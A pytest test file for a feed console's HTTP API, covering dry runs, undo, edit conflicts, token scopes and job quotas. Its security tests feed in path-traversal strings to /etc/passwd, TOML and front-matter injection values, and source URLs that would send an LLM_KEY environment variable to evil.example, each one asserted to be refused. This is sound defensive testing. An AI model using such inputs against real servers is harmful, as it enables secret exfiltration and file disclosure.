"""Operations through the API: dry run, apply, undo, conflicting edits, jobs, attacks."""

from __future__ import annotations

import json
import tomllib
from typing import Any

import pytest

from syndicator.console import security
from syndicator.console.api.server import list_offered_operations
from syndicator.core.fair_queue import Shares
from syndicator.operations.jobs.queue import Job
from tests.console.api.client import Answer, Client
from tests.console.conftest import Browser, RunningConsole

JSON = {"Content_Type": "application/json"}


def post_operation(
    client: Client, name: str, arguments: Any, query: str = "", **headers: str
) -> Answer:
    return client.ask(
        "POST", f"/operations/{name}{query}", json.dumps(arguments), **JSON, **headers
    )


def finish_operation(
    client: Client, name: str, arguments: Any, query: str = "", **headers: str
) -> dict[str, Any]:
    """The job of an operation that went well, once its feeds are built."""
    answer = post_operation(client, name, arguments, query, **headers)
    assert answer.status in (200, 202), answer
    job: dict[str, Any] = answer.json
    while job["status"] not in ("done", "failed", "cancelled"):
        job = client.get(f"/jobs/{job['id']}")
    assert job["status"] == "done", job
    return job


def get_article_of_holt(client: Client, place: int = 0) -> dict[str, Any]:
    """The article at this place of the list of the source holt, which begins with the newest."""
    result: dict[str, Any] = client.get("/articles?source=holt")["items"][place]
    return result


def read_instance_files(running_console: RunningConsole) -> dict[str, bytes]:
    roots = (running_console.instance.config, running_console.instance.folder / "feeds/articles")
    return {
        str(path): path.read_bytes() for root in roots for path in root.rglob("*") if path.is_file()
    }


def test_a_dry_run_changes_nothing_and_a_change_is_undone(
    running_console: RunningConsole, writing_client: Client
) -> None:
    """The dry run of a withdrawal changes no file and is not logged; the real withdrawal is logged
    with the token's name and can be undone. Then the log, newest first, has the undoing, and the
    withdrawal as taken back."""
    article_id = get_article_of_holt(writing_client)["id"]
    before = read_instance_files(running_console)
    changes_before = writing_client.get("/changes")["items"]
    dry_run = finish_operation(writing_client, "withdraw", {"id": article_id}, "?dry_run=true")

    assert dry_run["dry_run"]
    assert dry_run["result"]["withdrawn"] == article_id
    assert dry_run["change"] is None
    assert read_instance_files(running_console) == before
    assert writing_client.get("/changes")["items"] == changes_before

    job = finish_operation(writing_client, "withdraw", {"id": article_id})

    assert writing_client.ask("GET", f"/articles/{article_id}").status == 404

    change = writing_client.get("/changes")["items"][0]

    assert int(change["id"]) == job["change"]
    assert change["who"] == "token writer"
    assert change["act"] == "withdraw"

    finish_operation(writing_client, "undo", {"number": job["change"]})

    assert get_article_of_holt(writing_client)["id"] == article_id

    undoing, withdrawal = writing_client.get("/changes")["items"][:2]

    assert undoing["taken_back"] is False
    assert withdrawal["taken_back"] is True


def test_an_edit_is_made_of_what_was_shown_and_of_nothing_else(
    running_console: RunningConsole, writing_client: Client
) -> None:
    """An edit with the ETag of an outdated article is refused with 412; with the current one it
    changes only the given field. An article that there is not is 409, whatever its id."""
    article_id = get_article_of_holt(writing_client, place=1)["id"]
    first_etag = writing_client.ask("GET", f"/articles/{article_id}").headers["etag"]
    finish_operation(
        writing_client, "edit", {"id": article_id, "title": "By the first"}, If_Match=first_etag
    )

    # a second editor, who has not seen the first edit
    late_edit = json.dumps({"id": article_id, "title": "By the second"})
    status, detail = writing_client.problem(
        "POST", "/operations/edit", late_edit, **JSON, If_Match=first_etag
    )

    assert status == 412
    assert "edited meanwhile" in detail

    # this id has a word of the message above
    edit_of_nothing = json.dumps({"id": "no meanwhile"})
    status, _ = writing_client.problem(
        "POST", "/operations/edit", edit_of_nothing, **JSON, If_Match=first_etag
    )

    assert status == 409

    # the second editor reads the article again and edits what it is now
    again = writing_client.ask("GET", f"/articles/{article_id}")
    second_etag = again.headers["etag"]

    assert again.json["title"] == "By the first"
    assert second_etag != first_etag

    second_edit = {"id": article_id, "excerpt": "Of the second."}
    finish_operation(writing_client, "edit", second_edit, If_Match=second_etag)
    article = writing_client.get(f"/articles/{article_id}")

    assert article["title"] == "By the first"
    assert article["excerpt"] == "Of the second."


def test_a_token_that_reads_may_try_and_not_change(
    running_console: RunningConsole, reading_client: Client
) -> None:
    """A `read` token may only ask and dry-run; every operation that changes something is 403, and
    no file changes."""
    arguments = {"id": get_article_of_holt(reading_client)["id"]}
    before = read_instance_files(running_console)
    changing_operations = [
        name for name, operation in list_offered_operations().items() if not operation.is_question
    ]
    for name in changing_operations:
        assert post_operation(reading_client, name, arguments).status == 403
        assert post_operation(reading_client, name, arguments, "?dry_run=false").status == 403

    dry_run = finish_operation(reading_client, "withdraw", arguments, "?dry_run=true")

    assert dry_run["dry_run"]
    assert read_instance_files(running_console) == before


def test_a_token_that_writes_may_not_change_settings(
    running_console: RunningConsole, reading_client: Client, writing_client: Client
) -> None:
    """Changing settings needs the scope `settings`; `read` and `write` tokens may only dry-run
    it."""
    before = read_instance_files(running_console)
    values = {"values": ["publish.limit=81"]}
    for client in (reading_client, writing_client):
        assert post_operation(client, "change-settings", values).status == 403
        assert finish_operation(client, "change-settings", values, "?dry_run=true")["result"] == {
            "publish.limit": 81
        }

    assert read_instance_files(running_console) == before


def test_a_token_for_settings_may_change_them_and_only_it_takes_them_back(
    running_console: RunningConsole, writing_client: Client, settings_client: Client
) -> None:
    """Only a `settings` token may change settings, undo such a change, or undo that undoing; a
    `write` token may undo other changes."""
    path = running_console.instance.config / "syndicator.toml"
    before = path.read_text()
    change_number = finish_operation(
        settings_client, "change-settings", {"values": ["publish.limit=81"]}
    )["change"]
    after = path.read_text()

    assert tomllib.loads(after)["publish"]["limit"] == 81

    # the `write` token may not undo it, however it writes the number
    for number in (str(change_number), f" {change_number} "):
        status, detail = writing_client.problem(
            "POST", "/operations/undo", json.dumps({"number": number}), **JSON
        )
        assert status == 403
        assert "--settings" in detail

    assert path.read_text() == after

    undo_number = finish_operation(settings_client, "undo", {"number": str(change_number)})[
        "change"
    ]

    assert path.read_text() == before
    # to undo the undoing would set the limit again
    assert post_operation(writing_client, "undo", {"number": str(undo_number)}).status == 403

    # the same token may undo what is no setting, though a `settings` token did it
    article_id = get_article_of_holt(settings_client)["id"]
    withdrawal = finish_operation(settings_client, "withdraw", {"id": article_id})["change"]
    finish_operation(writing_client, "undo", {"number": str(withdrawal)})

    assert writing_client.get(f"/articles/{article_id}")["id"] == article_id


def test_a_token_of_an_unknown_scope_reads(
    running_console: RunningConsole, settings_client: Client
) -> None:
    """A token whose scope in the file of tokens is not known may read an article, but not withdraw
    it: that is 403."""
    path = security.find_tokens_file(running_console.settings.state_dir)
    tokens_before = path.read_text()
    # the scope of `settings_client` becomes "everything"
    path.write_text(tokens_before.replace('"settings ', '"everything '))
    try:
        article_id = get_article_of_holt(settings_client)["id"]
        answer = post_operation(settings_client, "withdraw", {"id": article_id})
    finally:
        path.write_text(tokens_before)

    assert answer.status == 403


def test_jobs_are_seen_and_cancelled_by_their_token_alone(
    running_console: RunningConsole, reading_client: Client, writing_client: Client
) -> None:
    """A token sees and cancels only its own jobs; those of another token or of the console are
    404 for it and not in its list."""
    article_id = get_article_of_holt(writing_client)["id"]
    job_of_writer = finish_operation(
        writing_client, "withdraw", {"id": article_id}, "?dry_run=true"
    )
    job_of_console = running_console.console.queue.add(
        "rest", {"key": "holt"}, who="operator", requested="2026-11-29T00:00:00+00:00"
    )

    # the other token, `reading_client`, reaches neither
    for job_id in (job_of_writer["id"], job_of_console.id):
        assert reading_client.problem("GET", f"/jobs/{job_id}")[0] == 404
        assert reading_client.problem("POST", f"/jobs/{job_id}/cancel")[0] == 404

    listed_ids = [item["id"] for item in reading_client.get("/jobs")["items"]]

    assert job_of_writer["id"] not in listed_ids
    assert writing_client.get(f"/jobs/{job_of_writer['id']}")["status"] == "done"

    job_of_console_now = running_console.console.queue.get(job_of_console.id)

    assert job_of_console_now is not None
    assert job_of_console_now.status != "cancelled"

    # a job that waits under the token's own name is cancelled
    waiting_job = running_console.console.queue.add(
        "rest", {"key": "holt"}, who="token writer", requested="2026-11-29T00:00:00+00:00"
    )
    cancelled = writing_client.ask("POST", f"/jobs/{waiting_job.id}/cancel").json

    assert cancelled["status"] == "cancelled"


def test_what_takes_long_is_a_job_to_come_back_to(writing_client: Client) -> None:
    """An operation that is not waited for (`wait=0`) is answered with the address of its job,
    whether that is done by then (200) or not (202)."""
    article_id = get_article_of_holt(writing_client)["id"]
    answer = post_operation(writing_client, "withdraw", {"id": article_id}, "?dry_run=true&wait=0")

    assert answer.status in (200, 202)
    assert answer.headers["location"] == f"/api/v1/jobs/{answer.json['id']}"


@pytest.mark.parametrize(
    ("body", "media_type", "status"),
    [
        (b"{", "application/json", 400),
        (b"[]", "application/json", 400),
        (b"1", "application/json", 400),
        (b"\xff\xfe", "application/json", 400),
        (b"[" * 50_000, "application/json", 400),
        (b"{}", "text/plain", 415),
        (b"id=1", "application/x-www-form-urlencoded", 415),
        (b"{}", "application/json; charset=utf-8", 422),
        (b'{"id": ["a"]}', "application/json", 422),
        (b'{"id": "a", "else": 1}', "application/json", 422),
        (b'{"id": "a", "purge": "perhaps"}', "application/json", 422),
    ],
)
def test_a_body_that_is_none_is_a_problem(
    writing_client: Client, body: bytes, media_type: str, status: int
) -> None:
    """A body that is no JSON object (400), has another media type (415), or has missing, unknown or
    wrong arguments (422) is refused with a problem document."""
    problem_status, _ = writing_client.problem(
        "POST", "/operations/withdraw", body, Content_Type=media_type
    )
    assert problem_status == status


def test_what_cannot_be_done_is_a_problem(writing_client: Client) -> None:
    """Unknown operations (404), articles and changes (409), a wrong query value, and If-Match for
    an operation that has no use for it (422), are answered with a problem document."""

    def get_problem_status(path: str, body: str, **headers: str) -> int:
        status, _ = writing_client.problem("POST", f"/operations{path}", body, **JSON, **headers)
        return status

    assert get_problem_status("/nothing", "{}") == 404
    assert get_problem_status("/withdraw", '{"id": "nowhere"}') == 409
    assert get_problem_status("/undo", '{"number": "999999"}') == 409
    assert get_problem_status("/withdraw?dry_run=perhaps", "{}") == 422
    assert get_problem_status("/withdraw", '{"id": "x"}', If_Match='"x"') == 422


def test_a_body_beyond_what_the_server_takes_is_not_read(writing_client: Client) -> None:
    """A request body over three megabytes is refused with 413."""
    answer = writing_client.ask("POST", "/operations/edit", b"{" + b" " * 3_100_000 + b"}", **JSON)
    assert answer.status == 413


@pytest.mark.parametrize(
    "path",
    [
        "../../config/syndicator.toml",
        "/etc/passwd",
        "..%2f..%2fsecret",
        "file:///etc/passwd",
        "\0",
        "a\nb",
    ],
)
def test_no_path_leads_out_of_the_articles(
    running_console: RunningConsole, writing_client: Client, path: str
) -> None:
    """A path in place of an article id is refused by every operation on an article, and no file is
    read ("root:" would be the beginning of /etc/passwd) or changed."""
    before = read_instance_files(running_console)
    for name in ("withdraw", "hide", "edit", "release", "split"):
        answer = post_operation(writing_client, name, {"id": path})
        assert answer.status in (409, 422), answer
        assert "root:" not in answer.text
    assert read_instance_files(running_console) == before


@pytest.mark.parametrize(
    "text",
    [
        'X"\nevil = true',
        "X\n[[tag]]\nname = 'evil'",
        "X\r[[category]]",
        "X'''\nevil",
        "\\u0022evil",
        'X"]\n[evil]',
    ],
)
def test_no_text_becomes_a_table_of_the_configuration(
    running_console: RunningConsole, writing_client: Client, text: str
) -> None:
    """Whatever the name of a new or renamed tag is, taxonomy.toml stays valid and gets no other
    table or key; a new tag has that name, but for its white space."""
    path = running_console.instance.config / "taxonomy.toml"
    before = tomllib.loads(path.read_text())
    post_operation(writing_client, "add-tag", {"name": text})
    post_operation(writing_client, "rename-tag", {"old": "AI", "new": text})
    after = tomllib.loads(path.read_text())

    assert after.keys() == before.keys()
    assert after["category"] == before["category"]
    assert all(set(tag) <= {"name", "aliases", "description"} for tag in after["tag"])

    names_before = {str(tag["name"]) for tag in before["tag"]}
    new_names = {str(tag["name"]) for tag in after["tag"]} - names_before

    assert new_names <= {text, text.strip(), " ".join(text.split())}


@pytest.mark.parametrize(
    ("name", "arguments", "status"),
    [
        ("add", {"url": ["https://evil.example/?k=${LLM_KEY}"]}, 409),
        ("add", {"url": ["https://evil.example/?k=$%7BLLM_KEY%7D"]}, 409),
        (
            "add",
            {"sources": [{"url": "https://evil.example/", "headers_env": {"x": "LLM_KEY"}}]},
            422,
        ),
        ("change-source", {"key": "holt", "url": "https://evil.example/${LLM_KEY}"}, 409),
        ("look", {"address": "https://evil.example/${LLM_KEY}"}, 409),
        ("look", {"address": "/etc/passwd"}, 409),
        ("follow-list", {"sources": [{"url": "https://evil.example/"}], "wrapper": "{}"}, 422),
        ("follow-list", {"url": "https://evil.example/${LLM_KEY}", "wrapper": "{}"}, 409),
    ],
)
def test_no_program_has_variables_or_files_of_this_machine_sent(
    running_console: RunningConsole,
    writing_client: Client,
    name: str,
    arguments: dict[str, Any],
    status: int,
) -> None:
    """A program cannot have environment variables or local files of the server sent anywhere: a
    source, a previewed address (`look`) or a list (`follow-list`) that names one is refused, and
    nothing changes."""
    before = read_instance_files(running_console)
    assert post_operation(writing_client, name, arguments).status == status
    assert read_instance_files(running_console) == before


def test_who_only_reads_reaches_no_private_network(reading_client: Client) -> None:
    """A `read` token may preview an address (`look`), but not allow itself requests to the private
    network with `allow`."""
    arguments = {"address": f"http://127.0.0.1:{reading_client.port}/", "allow": ["127.0.0.1"]}
    assert post_operation(reading_client, "look", arguments).status == 403


@pytest.mark.parametrize("field", ["title", "category", "language", "mute", "every", "licence"])
def test_no_field_of_a_source_becomes_another_line(
    running_console: RunningConsole, writing_client: Client, field: str
) -> None:
    """Line breaks and quotes in a field cannot add keys or sources to sources.toml."""
    path = running_console.instance.config / "sources.toml"

    def read_sources_by_key() -> dict[str, Any]:
        return {source["key"]: source for source in tomllib.loads(path.read_text())["source"]}

    others_before = read_sources_by_key()
    holt_before = others_before.pop("holt")
    for text in (
        'X"\nevil = true',
        'X"\n[[source]]\nkey = "evil"\nurl = "https://evil.example/"',
        "X'''\nevil = 1",
    ):
        post_operation(writing_client, "change-source", {"key": "holt", field: text})

        others_after = read_sources_by_key()
        holt_after = others_after.pop("holt")
        assert others_after == others_before
        assert holt_after.keys() <= {*holt_before, field}


def test_an_edit_cannot_write_a_field_of_the_file(
    running_console: RunningConsole, writing_client: Client
) -> None:
    """Line breaks in an edited title or excerpt add no field to the front matter of the article's
    file: id and `hold` stay."""
    article_id = get_article_of_holt(writing_client, place=2)["id"]
    finish_operation(
        writing_client,
        "edit",
        {"id": article_id, "title": "A\n---\nid: evil\nhold: true\n", "excerpt": "B\nhold: true"},
    )
    article = writing_client.get(f"/articles/{article_id}")

    assert article["id"] == article_id
    assert article["hold"] is False


def test_two_browsers_a_shell_and_a_program_edit_one_source_and_lose_nothing(
    running_console: RunningConsole, browser: Browser, writing_client: Client
) -> None:
    """A program, two browsers, an editor and the shell change different fields of one source, and
    all changes stay; only the program's outdated ETag is refused."""
    path = running_console.instance.config / "sources.toml"
    second_browser = running_console.browser()
    form_path = "/operations/change-source"
    key = "launchbeat"

    # the program changes the title
    etag = writing_client.ask("GET", f"/sources/{key}").headers["etag"]
    title_change = {"key": key, "title": "Of the program"}
    finish_operation(writing_client, "change-source", title_change, If_Match=etag)

    # the first browser changes how often it is visited
    interval_form = {"key": key, "every": "2h", "then": "apply"}
    running_console.finish_job(browser.post(form_path, interval_form))

    # an editor adds a comment
    path.write_text(path.read_text().replace('"Of the program"', '"Of the program"  # by hand'))

    # the second browser changes the tags
    tag_form = {"key": key, "tags": "Money", "then": "apply"}
    running_console.finish_job(second_browser.post(form_path, tag_form))

    # the shell changes the language
    running_console.instance.run_command("change", "change-source", key, "--language", "en")

    # the program comes again with what it knew at first
    late_edit = json.dumps({"key": key, "title": "Too late"})
    late_status, _ = writing_client.problem(
        "POST", "/operations/change-source", late_edit, **JSON, If_Match=etag
    )

    assert late_status == 412

    [source] = [table for table in tomllib.loads(path.read_text())["source"] if table["key"] == key]
    edited = {name: source[name] for name in ("title", "every", "tags", "language")}

    assert edited == {"title": "Of the program", "every": "2h", "tags": ["Money"], "language": "en"}
    assert "# by hand" in path.read_text()


def test_a_program_imports_a_text_and_no_file_of_this_machine(
    running_console: RunningConsole, writing_client: Client
) -> None:
    """A program may import the text of an article, but not name a local file (422); a path beside
    the text is ignored."""
    text = (
        "---\ntitle: Of elsewhere\ndate: 2026-02-11\nsource: https://else.example/a\n---\nA text.\n"
    )
    (article,) = finish_operation(writing_client, "import-articles", {"text": text})["result"][
        "articles"
    ]

    assert writing_client.get(f"/articles/{article['id']}")["title"] == "Of elsewhere"

    for files in ({"a.md": "/etc/hostname"}, {}):
        assert post_operation(writing_client, "import-articles", {"files": files}).status == 422

    # the same text again, which is known already, with a path
    text_and_path = {"text": text, "path": "../../etc/x.md"}

    assert post_operation(writing_client, "import-articles", text_and_path).status == 200


def test_who_reads_sees_no_secret_of_what_others_asked_for(
    running_console: RunningConsole, reading_client: Client, writing_client: Client
) -> None:
    """A secret in the address of a source, which a `write` token gave it, is hidden from a `read`
    token in every answer."""
    url_with_secret = "https://holt.example/feed?token=c2VjcmV0IQ"
    change = finish_operation(
        writing_client, "change-source", {"key": "holt", "url": url_with_secret}
    )["change"]
    try:
        for path in ("/changes", "/jobs", "/sources", "/sources/holt", "/status", "/conditions"):
            assert "c2VjcmV0IQ" not in reading_client.ask("GET", path).text, path
    finally:
        finish_operation(writing_client, "undo", {"number": str(change)})


def test_a_token_that_asks_for_very_much_waits_and_leaves_places_to_others(
    running_console: RunningConsole,
    reading_client: Client,
    writing_client: Client,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """One token may have a quarter of eight places for waiting jobs: its third job is 429, another
    token's is taken. Once its jobs are cancelled it may queue one again."""
    # no job is begun, and there are eight places
    monkeypatch.setattr(running_console.console.runner, "wake", lambda: None)
    monkeypatch.setattr(running_console.console.queue, "_tokens", Shares[Job](8))

    def queue_job(client: Client) -> Answer:
        return post_operation(client, "wake", {"key": "holt"}, "?dry_run=true&wait=0")

    def cancel_job(client: Client, queued: Answer) -> int:
        return client.ask("POST", f"/jobs/{queued.json['id']}/cancel").status

    first, second, third = (queue_job(reading_client) for _ in range(3))
    of_another_token = queue_job(writing_client)

    assert (first.status, second.status) == (202, 202)
    assert third.status == 429
    assert third.headers["retry-after"]
    assert of_another_token.status == 202

    assert cancel_job(reading_client, first) == 200
    assert cancel_job(reading_client, second) == 200
    assert cancel_job(writing_client, of_another_token) == 200

    again = queue_job(reading_client)

    assert again.status == 202, "a job that is queued no more takes no place"
    assert cancel_job(reading_client, again) == 200
